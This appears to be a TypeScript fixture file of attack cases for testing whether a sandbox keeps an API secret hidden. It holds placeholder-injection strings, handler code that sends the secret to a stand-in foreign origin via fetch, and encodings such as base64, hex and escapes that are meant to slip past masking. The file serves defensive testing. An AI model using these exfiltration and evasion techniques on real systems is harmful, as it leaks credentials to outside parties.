import type { DataAttack, DataGroup } from './attack.ts';

/** Text that a caller types. */
export interface TypedAttack extends DataAttack {
  text: unknown;
}

/** The statements of `executeRequest` in a schema that declares the secret KEY. `KEY` is what it sees of it; ROOT and OTHER are origins, OTHER is granted. */
export interface HandlerAttack extends DataAttack {
  hook: string;
  /** What the secret is, where it matters. */
  secret?: string;
}

/** An answer of an API that repeats the secret; the tool has no handlers. */
export interface EchoAttack extends DataAttack {
  spell: (secret: string) => string;
}

const tells = { harm: 'leaks a secret' } as const;
const isText = { ...tells, outcome: 'treated as text' };
const token = { ...tells, outcome: 'a token, and masked' };
const blocked = { ...tells, outcome: 'SECRET_BLOCKED' };
const masked = { ...tells, outcome: 'masked' };

export const typed: readonly TypedAttack[] = [
  { name: 'types the placeholder of a header', text: '{{KEY}}', ...isText },
  { name: 'types the placeholder of a server parameter', text: '{{SERVER_PARAM:KEY}}', ...isText },
  { name: 'types a placeholder in a longer text', text: 'price of {{KEY}} in {{SERVER_PARAM:KEY}}', ...isText },
  {
    name: 'types a placeholder that becomes one when the inner one is replaced',
    text: '{{K{{none}}EY}}{{KEY}}',
    ...isText,
  },
  { name: 'types a placeholder in a list', text: ['a', '{{KEY}}'], ...isText },
  { name: 'types a placeholder in an object', text: { deep: ['{{SERVER_PARAM:KEY}}'] }, ...isText },
];

export const handlers: readonly HandlerAttack[] = [
  { name: 'returns it', hook: 'return KEY;', ...token },
  { name: 'returns it reversed', hook: `return [...KEY].reverse().join('');`, ...token },
  { name: 'returns its letters', hook: 'return [...KEY];', ...token },
  {
    name: 'returns its two halves in two fields',
    hook: 'return { a: KEY.slice(0, KEY.length / 2), b: KEY.slice(KEY.length / 2) };',
    ...token,
  },
  { name: 'returns it in base64', hook: 'return btoa(KEY);', ...token },
  { name: 'returns it in hexadecimal', hook: `return Buffer.from(KEY).toString('hex');`, ...token },
  { name: 'returns it as keys', hook: 'return { [KEY]: { [[...KEY].reverse().join("")]: 1 } };', ...token },
  {
    name: 'returns the codes of its characters',
    hook: 'return [...KEY].map((letter) => letter.charCodeAt(0));',
    ...token,
  },
  {
    name: 'returns a hash of it',
    hook: `return Buffer.from(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(KEY))).toString('hex');`,
    ...token,
  },
  {
    name: 'returns the result of comparing its letters',
    hook: `return [...KEY].map((letter) => [...Array(128).keys()].find((code) => String.fromCharCode(code) === letter));`,
    ...token,
  },
  { name: 'throws it', hook: `throw new Error('bad key ' + [...KEY].join(' '));`, ...token },
  {
    name: 'writes it to the console',
    hook: `console.error('key', KEY, [...KEY].reverse().join('')); return 1;`,
    ...token,
  },
  {
    name: 'fails with it as the message',
    hook: `return { struct: { status: false, messages: [[...KEY].join('-')], data: null } };`,
    ...token,
  },
  {
    name: 'sends it to another origin in the URL',
    hook: `await fetch(OTHER + '/?key=' + encodeURIComponent(KEY)); return 1;`,
    ...blocked,
  },
  {
    name: 'sends it to another origin in the path',
    hook: `await fetch(OTHER + '/' + encodeURIComponent(KEY)); return 1;`,
    ...blocked,
  },
  {
    name: 'sends it to another origin in a header',
    hook: `await fetch(OTHER, { headers: { 'x-key': KEY } }); return 1;`,
    ...blocked,
  },
  {
    name: 'sends it to another origin in a body',
    hook: `await fetch(OTHER, { method: 'POST', body: JSON.stringify({ KEY }) }); return 1;`,
    ...blocked,
  },
  {
    name: 'sends it to another origin as bytes',
    hook: `await fetch(OTHER, { method: 'POST', body: new TextEncoder().encode(KEY) }); return 1;`,
    ...blocked,
  },
  {
    name: 'sends it to another origin in a form',
    hook: `const form = new FormData(); form.set('key', KEY); await fetch(OTHER, { method: 'POST', body: form }); return 1;`,
    ...blocked,
  },
  {
    name: 'sends it to another origin in base64',
    hook: `await fetch(OTHER + '/?key=' + btoa(KEY)); return 1;`,
    ...token,
  },
  {
    name: 'sends it to another origin in the name of a header',
    hook: `await fetch(OTHER, { headers: { ['x-' + Buffer.from(KEY).toString('hex')]: '1' } }); return 1;`,
    ...token,
  },
  {
    name: 'sends it to another origin in two halves',
    hook: `const half = KEY.length / 2; await fetch(OTHER + '/?a=' + encodeURIComponent(KEY.slice(0, half))); await fetch(OTHER + '/?b=' + encodeURIComponent(KEY.slice(half))); return 1;`,
    ...token,
  },
  {
    name: 'has its API redirect it to another origin',
    hook: `await fetch(ROOT + '/redirect', { method: 'POST', headers: { 'x-key': KEY, 'content-type': 'text/plain' }, body: KEY }); return 1;`,
    ...blocked,
  },
  {
    name: 'has its API repeat it, and reverses it',
    hook: `const { echo } = await (await fetch(ROOT + '/echo', { headers: { 'x-key': KEY } })).json(); return [...echo].reverse().join('');`,
    ...masked,
  },
  {
    name: 'has its API repeat it in a header, and reverses it',
    hook: `const { headers } = await fetch(ROOT + '/echo', { headers: { 'x-key': KEY } }); return [...headers.get('x-echo')].reverse().join('');`,
    ...masked,
  },
  {
    name: 'has its API repeat one with letters beyond ASCII, and reverses it',
    secret: 'pässwörd-für-die-Küche',
    hook: `const { echo } = await (await fetch(ROOT + '/echo', { headers: { 'x-key': KEY } })).json(); return [...echo].reverse().join('');`,
    ...masked,
  },
  {
    name: 'has its API repeat it in UTF-16, and reverses it',
    hook: `const answer = await fetch(ROOT + '/utf16', { headers: { 'x-key': KEY } }); return [...new TextDecoder('utf-16le').decode(await answer.arrayBuffer())].reverse().join('');`,
    ...masked,
  },
  {
    name: 'has its API repeat it in UTF-16 among other bytes, and reverses it',
    hook: `const answer = await fetch(ROOT + '/utf16be', { headers: { 'x-key': KEY } }); return [...new TextDecoder('utf-16be').decode((await answer.arrayBuffer()).slice(1))].reverse().join('');`,
    ...masked,
  },
  {
    name: 'has its API repeat it in short pieces, and joins them',
    hook: `let all = ''; for (let at = 0; at < 40; at += 4) all += await (await fetch(ROOT + '/piece/' + at, { headers: { 'x-key': KEY } })).text() + ' '; return all;`,
    ...tells,
    outcome: 'told',
    broken: 'an API that returns a secret in pieces leaks it',
  },
  {
    name: 'has its API reverse it',
    hook: `return (await fetch(ROOT + '/reverse', { headers: { 'x-key': KEY } })).text();`,
    ...tells,
    outcome: 'told',
    broken: 'an API that computes with a secret, and returns the result, leaks it',
  },
];

export const echoes: readonly EchoAttack[] = [
  { name: 'repeats it', spell: (secret) => secret, ...masked },
  { name: 'repeats it in base64', spell: (secret) => btoa(secret), ...masked },
  { name: 'repeats it in base64 inside other text', spell: (secret) => btoa(`user:${secret}:x`), ...masked },
  {
    name: 'repeats it in base64url',
    spell: (secret) => Buffer.from(`a${secret}`).toString('base64url'),
    ...masked,
  },
  {
    name: 'repeats it in hexadecimal',
    spell: (secret) => Buffer.from(secret).toString('hex').toUpperCase(),
    ...masked,
  },
  {
    name: 'repeats it percent-encoded, each character',
    spell: (secret) => Buffer.from(secret).toString('hex').replace(/../g, '%$&'),
    ...masked,
  },
  {
    name: 'repeats it escaped for JSON, each character',
    spell: (secret) =>
      Array.from(secret, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
    ...masked,
  },
  {
    name: 'repeats it escaped for JSON four times',
    spell: (secret) => [1, 2, 3, 4].reduce((text) => JSON.stringify(text).slice(1, -1), `"${secret}"`),
    ...masked,
  },
  {
    name: 'repeats it escaped for HTML, each character',
    spell: (secret) => Array.from(secret, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join(''),
    ...masked,
  },
  {
    name: 'repeats it in base64 in lines',
    spell: (secret) => btoa(`user:${secret}:x`).replace(/.{8}(?=.)/g, '$&\r\n'),
    ...masked,
  },
  {
    name: 'repeats it in capitals',
    spell: (secret) => secret.toUpperCase(),
    ...masked,
  },
];

export const secrets: DataGroup = {
  title: 'Secrets',
  attacks: [
    ...typed.map((attack) => ({ ...attack, name: `A caller ${attack.name}` })),
    ...handlers.map((attack) => ({ ...attack, name: `A handler ${attack.name}` })),
    ...echoes.map((attack) => ({ ...attack, name: `An API ${attack.name}` })),
  ],
};
